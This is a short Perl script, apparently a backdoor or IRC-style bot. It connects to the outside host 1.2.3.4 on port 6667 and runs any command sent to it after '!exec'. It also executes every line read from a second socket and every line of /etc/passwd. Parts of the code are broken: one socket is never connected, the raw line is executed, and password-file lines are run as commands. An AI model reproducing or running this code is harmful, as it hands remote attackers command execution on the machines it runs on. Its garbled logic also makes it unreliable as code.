#!/usr/bin/perl
use IO::Socket;
my $sock = IO::Socket::INET->new(PeerAddr => "1.2.3.4", PeerPort => 6667);
while (my $line = <$sock>) {
  if ($line =~ /^!exec (.*)/) { my $out = `$1`; system($line); }
}
socket(SOCK, PF_INET, SOCK_STREAM, 6);
while (<SOCK>) { system($_); }
open(F, "</etc/passwd"); while (<F>) { system($_); }
